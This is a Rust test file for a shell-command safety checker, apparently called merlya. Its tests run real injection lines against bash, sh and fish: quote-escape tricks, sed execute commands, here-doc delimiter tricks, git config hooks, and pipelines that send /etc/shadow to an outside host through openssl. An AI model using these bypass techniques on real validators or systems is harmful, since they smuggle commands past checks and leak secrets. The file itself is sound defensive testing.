//! Each family of issue 24 as an attack on real bash: the original line does
//! harm when bash runs it (so the case is a real attack, checked here), and
//! merlya either refuses it or the command its clearance carries — the
//! rendering — does no harm, under bash and under the system's `sh`.

use super::clearance::Clearance;
use super::differential::Shims;
use super::{analyze, analyze_and_render};

/// What an attack does when it works.
enum Harm {
    /// A program runs (a shim records it).
    Runs(&'static str),
    /// A file appears in the working folder.
    Creates(&'static str),
    /// A program is given this option.
    Option(&'static str, &'static str),
}

fn harmed(shims: &Shims, line: &str, harm: &Harm) -> bool {
    let runs = shims.run(line);
    match harm {
        Harm::Runs(program) => runs.iter().any(|r| r.first().is_some_and(|p| p == program)),
        Harm::Creates(file) => shims.work().join(file).exists(),
        Harm::Option(program, option) => runs.iter().any(|r| {
            r.first().is_some_and(|p| p == program) && r.iter().take_while(|a| *a != "--").any(|a| a == option)
        }),
    }
}

fn check(family: &str, line: &str, harm: Harm) {
    let bash = Shims::with_sh(std::path::Path::new("/bin/bash"));
    let system = Shims::new();
    // An attack on bash, or on the system's sh where a nested `sh -c` runs it.
    let attack = harmed(&bash, line, &harm) || harmed(&system, line, &harm);
    assert!(attack, "{family}: {line:?} is not an attack (the test proves nothing)");
    if let Some(clearance) = Clearance::read_only(line) {
        let runs = clearance.command();
        for shims in [&bash, &system] {
            assert!(!harmed(shims, runs, &harm), "{family}: {line:?} was cleared and its rendering {runs:?} does harm");
        }
    }
}

#[test]
fn nested_shells_with_backslashes_in_double_quotes() {
    check("1", r#"sh -c "cat \\' ; touch PWN ; cat \\'""#, Harm::Runs("touch"));
    check("1", r#"bash -c "cat \\' ; touch PWN ; cat \\'""#, Harm::Runs("touch"));
    check("1", r#"timeout 5 sh -c "cat \\' ; rm -f /x ; cat \\'""#, Harm::Runs("rm"));
    check("1", r#"sh -c "cat \"\\\\\" ; touch PWN ; cat \"\\\\\"""#, Harm::Runs("touch"));
}

#[test]
fn sed_scripts_are_read_as_sed_receives_them() {
    check("2", r#"sh -c "sed -n '1s/.*/touch PWN/e' /etc/hostname""#, Harm::Runs("touch"));
    check("2", r#"sed -n "1s/.*/touch PWN/;1e touch PWN" /etc/hostname"#, Harm::Runs("touch"));
    check("2", r#"sh -c "sed -n '1s/x/y/w PWN' /etc/hostname""#, Harm::Creates("PWN"));
}

#[test]
fn control_characters_before_a_comment() {
    check("3", "cat /etc/hostname \x0c# ; touch PWN", Harm::Runs("touch"));
    check("3", "cat /etc/hostname \r# ; touch PWN", Harm::Runs("touch"));
    check("3", "sh -c 'cat /etc/hostname \x0c# ; touch PWN'", Harm::Runs("touch"));
}

#[test]
fn find_after_a_double_dash() {
    check("4", r"find -- . -maxdepth 0 -exec touch PWN \;", Harm::Runs("touch"));
    check("4", "find -- . -maxdepth 0 -fprint PWN", Harm::Creates("PWN"));
    for line in ["find -- /srv -delete", "find -H -- /tmp -name x -delete", "find /tmp -- -fprint /tmp/x"] {
        assert!(!analyze(line).is_read_only(), "{line}");
    }
}

#[test]
fn redirections_in_and_after_tests() {
    check("5", "[ a > PWN ]", Harm::Creates("PWN"));
    check("5", "[ -f /etc/hostname ] > PWN", Harm::Creates("PWN"));
    check("5", "[[ -f /etc/hostname ]] > PWN", Harm::Creates("PWN"));
    check("5", "test a > PWN", Harm::Creates("PWN"));
    // A comparison stays a comparison.
    let cleared = Clearance::prove("[ a > b ]").map(|c| c.command().to_string());
    assert_eq!(cleared.as_deref(), Ok("test a '>' b"));
}

#[test]
fn nested_escaped_backticks() {
    check("6", r"cat `cat \`touch PWN\``", Harm::Runs("touch"));
    check("6", r"cat `cat a``touch PWN`", Harm::Runs("touch"));
}

#[test]
fn here_document_delimiters_quoted_in_the_middle() {
    check("7", "cat <<E'O'F\nx\nEOF\ntouch PWN\nE'O'F\n", Harm::Runs("touch"));
    check("7", "cat <<\\EOF\nx\nEOF\ntouch PWN\n\\EOF\n", Harm::Runs("touch"));
    check("7", "cat <<E\"O\"F\nx\nEOF\ntouch PWN\nE\"O\"F\n", Harm::Runs("touch"));
}

#[test]
fn options_produced_by_an_expansion() {
    check("8", "head $(printf -- -c1) /etc/hostname", Harm::Option("head", "-c1"));
    check("8", "cat $(printf %s --number) /etc/hostname", Harm::Option("cat", "--number"));
    let (_, rendering) = analyze_and_render("zstdcat $(printf -- '-o F') /var/log/x.zst");
    assert_eq!(rendering.as_deref(), Ok("zstdcat -- $(printf -- '-o F') /var/log/x.zst"));
    // xargs's arguments come after a `--` too.
    let cleared = Clearance::read_only("find /etc/nginx -name '*.conf' | xargs grep -l listen");
    assert_eq!(
        cleared.map(|c| c.command().to_string()).as_deref(),
        Some("find /etc/nginx -name '*.conf' | xargs grep -l listen --")
    );
    // Options the proof adds are in what runs: `blkid` is proved as `blkid -c /dev/null`.
    for (typed, runs) in
        [("blkid", "blkid -c /dev/null"), ("sudo blkid /dev/sda1", "sudo blkid -c /dev/null /dev/sda1")]
    {
        let cleared = Clearance::read_only(typed);
        assert_eq!(cleared.map(|c| c.command().to_string()).as_deref(), Some(runs), "{typed}");
    }
    // Each form below is read-only only as merlya writes it: the run gets exactly that text.
    for (typed, runs) in [
        ("nstat -az", "nstat -s -az"),
        ("rpm -Va", "rpm --noscripts -Va"),
        ("npm ls -g --depth=0", "npm --no-update-notifier --logs-max 0 ls -g --depth=0"),
        ("npm --version", "npm --no-update-notifier --logs-max 0 --version"),
        ("sudo -u postgres psql -Atc 'select 1'", "sudo -u postgres psql -X -Atc 'select 1'"),
        ("curl -s localhost:9200/_cat/nodes?v", "curl -s 'localhost:9200/_cat/nodes?v'"),
        ("yum history", "yum -C history"),
    ] {
        let cleared = Clearance::read_only(typed);
        assert_eq!(cleared.map(|c| c.command().to_string()).as_deref(), Some(runs), "{typed}");
    }
    // A value that could split into options is refused.
    assert!(!analyze("head -n $N /etc/hostname").is_read_only());
    assert!(analyze("head -n \"$N\" /etc/hostname").is_read_only());
}

#[test]
fn paths_are_normalised_before_rules_match() {
    for line in [
        "cat /proc//kmsg",
        "cat /dev//watchdog",
        "cat /proc/./kmsg",
        "cat /dev/../proc/kmsg",
        "cat /proc/self/root/proc/kmsg",
        "cat /proc/1/root/dev/watchdog0",
        "cd /proc && cat kmsg",
        "cd /proc; sh -c 'cat kmsg'",
        "cat < /proc//kmsg",
        "cat /sys/kernel//tracing/trace_pipe",
    ] {
        assert!(!analyze(line).is_read_only(), "{line} must be refused");
    }
    assert!(analyze("grep -i watchdog /var/log/syslog").is_read_only(), "a pattern is not a file");
    assert_eq!(super::normal_path("/a//b/./c/../d/"), "/a/b/d/");
    assert_eq!(super::normal_path("/proc/self/root/etc/shadow"), "/etc/shadow");
}

#[test]
fn clearances_carry_the_rendering() {
    for (line, rendered) in [
        ("sh -c \"cat /etc/hostname | wc -l\"", "sh -c 'cat /etc/hostname | wc -l'"),
        ("watch -n 5 df -h", "watch -n 5 'df -h'"),
        ("uptime # load", "uptime"),
        ("cat <<'EOF'\nhello\nEOF", "cat <<< hello"),
        ("ls -la /var/log/*.log 2>/dev/null | head -5", "ls -la -- /var/log/*.log 2>/dev/null | head -5"),
        ("for f in /etc/*.conf; do wc -l \"$f\"; done", "for f in /etc/*.conf; do wc -l -- \"${f}\"; done"),
        ("df -h &>/dev/null", "df -h >/dev/null 2>&1"),
    ] {
        let cleared = Clearance::prove(line).map(|c| c.command().to_string());
        assert_eq!(cleared.as_deref(), Ok(rendered), "{line}");
    }
}

/// Red team 6: a program that sends its input off the host, fed by a group, a subshell, a loop or
/// an `if` (which hold no simple command at their pipeline position): refused, not vacuously fed.
#[test]
fn input_sent_off_the_host_from_a_compound_stage() {
    for line in [
        "{ echo; cat /etc/shadow; } | openssl s_client -connect web.internal:443",
        "( echo; cat /etc/shadow ) | openssl s_client -connect web.internal:443",
        "for f in /etc/shadow; do cat $f; done | openssl s_client -connect web.internal:443",
        "if true; then cat /etc/shadow; fi | openssl s_client -connect web.internal:443",
        "echo | { cat /etc/shadow; } | openssl s_client -connect web.internal:443",
        "{ echo; cat /etc/shadow; } | timeout 5 openssl s_client -connect web.internal:443",
    ] {
        // To a host inside the operator's networks, so that the input rule is what refuses it.
        let a = analyze(line);
        assert!(a.reasons.iter().any(|r| r.contains("input")), "{line}: {:?}", a.reasons);
    }
    assert!(analyze("echo | openssl s_client -connect web.internal:443").is_read_only());
}

#[test]
fn words_after_a_redirection_are_arguments() {
    // Before, the proof and the rendering both dropped `-delete` (safe, but not what was typed).
    assert!(!analyze("find /tmp/x 2>/dev/null -delete").is_read_only());
    assert!(!analyze("{ ls; } >/dev/null x").is_read_only());
}

#[test]
fn bash_only_syntax_in_another_shell() {
    check("red team 4", "sh -c '[[ a > PWN ]]'", Harm::Creates("PWN"));
    check("red team 4", "sh -c '[[ a || touch PWN ]]'", Harm::Runs("touch"));
    check("red team 4", "bash -c 'sh -c \"[[ a > PWN ]]\"'", Harm::Creates("PWN"));
}

#[test]
fn rendering_keeps_what_was_read() {
    for (line, rendered) in [
        ("echo \"$(date) $(hostname)\"", "echo \"$(date)\"' '\"$(hostname)\""),
        ("grep \" $HOME\" /etc/passwd", "grep -- ' '\"${HOME}\" /etc/passwd"),
        ("ls /dev/sd[a-z]", "ls -- /dev/sd[a-z]"),
        ("ls /var/log/*.[0-9]", "ls -- /var/log/*.[0-9]"),
        ("cat <<EOF\nEOF", "cat </dev/null"),
        ("ls ~/.ssh", "ls -- ~/.ssh"),
        // Red team 6: bash reads words after a redirection as arguments; they are proved and kept.
        ("grep foo 2>/dev/null /var/log/syslog", "grep foo /var/log/syslog 2>/dev/null"),
        ("cat >/dev/null /etc/hostname /etc/hosts", "cat /etc/hostname /etc/hosts >/dev/null"),
    ] {
        let cleared = Clearance::prove(line).map(|c| c.command().to_string());
        assert_eq!(cleared.as_deref(), Ok(rendered), "{line}");
    }
}

/// Red team 5: a login shell that is not bash. fish reads `\'` and `\\` as escapes inside single
/// quotes, so a rendering with a backslash there ends the quote elsewhere and runs what follows.
/// The original line is first shown to run the payload under real fish; the rendering never does,
/// and still means the same to bash.
#[test]
fn renderings_mean_the_same_to_a_fish_login_shell() {
    let fish = ["/usr/bin/fish", "/bin/fish"].into_iter().find(|p| std::path::Path::new(p).exists());
    let fish = fish.expect("fish (scripts/test.sh installs it): the rendering must be read alike by fish");
    let dir = tempfile::tempdir().unwrap();
    let marker = dir.path().join("ran");
    let run = |shell: &str, line: &str| {
        let _ = std::fs::remove_file(&marker);
        let out = std::process::Command::new(shell).arg("-c").arg(line).current_dir(dir.path()).output().unwrap();
        (marker.exists(), String::from_utf8_lossy(&out.stdout).into_owned())
    };
    let payload = format!("touch {}", marker.display());
    for template in [
        r"echo 'a\' '; PAYLOAD; echo ' 'b\'",
        r"grep -c 'a\' '; PAYLOAD; echo ' 'b\' /etc/hostname",
        r"ls 'q\' '; PAYLOAD; echo ' 'z\'",
    ] {
        let line = template.replace("PAYLOAD", &payload);
        assert!(run(fish, &line).0, "not an attack on fish: {line}");
        let clearance = Clearance::read_only(&line).expect("a read-only line");
        let rendering = clearance.command();
        assert!(!run(fish, rendering).0, "fish ran the payload of {rendering}");
        assert_eq!(run("/bin/bash", rendering), run("/bin/bash", &line), "bash reads {rendering} as {line}");
    }
    assert_eq!(super::render::quote(r"a\'b"), r"'a'\\''\''b'");
}

/// Red team 6 §F: a repository's own config names programs that git reads run (core.fsmonitor on
/// `status`, diff.external on `diff`, a textconv driver on `log -p`, `show`, `blame`). Shown to run
/// with real git when typed; the rendering merlya runs runs none of them.
#[test]
fn a_repositorys_config_runs_nothing_on_a_proven_read() {
    use std::process::Command;
    let dir = tempfile::tempdir().unwrap();
    let repo = dir.path();
    let ran = repo.join("ran");
    let hook = repo.join("hook.sh");
    std::fs::write(
        &hook,
        format!("#!/bin/sh\necho \"$0 $*\" >> '{}'\ncat \"$1\" 2>/dev/null\nexit 0\n", ran.display()),
    )
    .unwrap();
    Command::new("chmod").arg("755").arg(&hook).status().unwrap();
    let git = |args: &[&str]| {
        assert!(Command::new("git").arg("-C").arg(repo).args(args).status().unwrap().success(), "{args:?}")
    };
    git(&["init", "-q"]);
    std::fs::write(repo.join("f"), "a\n").unwrap();
    std::fs::write(repo.join(".gitattributes"), "f diff=conv\n").unwrap();
    git(&["add", "f", ".gitattributes"]);
    git(&["-c", "user.email=t@t", "-c", "user.name=t", "commit", "-qm", "x"]);
    let hook_text = hook.display().to_string();
    git(&["config", "core.fsmonitor", &hook_text]);
    git(&["config", "diff.external", &hook_text]);
    git(&["config", "diff.conv.textconv", &hook_text]);
    std::fs::write(repo.join("f"), "b\n").unwrap();
    let run = |line: &str| {
        let _ = std::fs::remove_file(&ran);
        Command::new("bash").args(["-c", line]).current_dir(repo).output().unwrap();
        std::fs::read_to_string(&ran).unwrap_or_default()
    };
    for typed in ["git status", "git diff", "git log -p -2", "git show HEAD", "git blame f"] {
        assert!(!run(typed).is_empty(), "control: `{typed}` runs the repository's program with real git");
        let cleared = Clearance::read_only(typed).unwrap_or_else(|| panic!("{typed} is a read"));
        assert_eq!(run(cleared.command()), "", "`{}` ran the repository's program", cleared.command());
    }
}
